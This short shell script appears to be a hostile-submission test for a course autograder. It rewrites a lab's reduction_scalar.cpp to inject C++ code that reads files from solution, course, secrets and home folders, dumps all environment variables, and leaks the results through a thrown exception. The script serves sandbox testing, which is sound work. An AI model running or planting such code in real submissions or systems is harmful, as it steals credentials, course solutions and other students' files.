#!/bin/sh
# Reads keys, passwords, the course's solutions and other submissions' files, and throws them as an exception.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <stdexcept>
#include <string>
#include <unistd.h>
static void collect(const std::string& folder, int depth, std::string& found) {
    std::error_code error;
    for (const auto& entry : std::filesystem::directory_iterator(folder, std::filesystem::directory_options::skip_permission_denied, error)) {
        if (found.size() > 60000)
            return;
        found += entry.path().string() + "\n";
        if (entry.is_directory(error) && !entry.is_symlink(error) && depth > 0) {
            collect(entry.path().string(), depth - 1, found);
        } else if (entry.is_regular_file(error)) {
            std::ifstream file(entry.path());
            std::string text{std::istreambuf_iterator<char>(file), std::istreambuf_iterator<char>()};
            found += text.substr(0, 500) + "\n";
        }
    }
}
static void attack() {
    std::string found;
    const char* home = std::getenv("HOME");
    for (const std::string folder : {"..", "../..", "/solutions", "/course", "/tmp", "/dev/shm", "/autograder", "/run/secrets", home == nullptr ? "/root" : home})
        collect(folder, 2, found);
    for (char** variable = environ; *variable != nullptr; ++variable)
        found += std::string(*variable) + "\n";
    throw std::runtime_error(found);
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
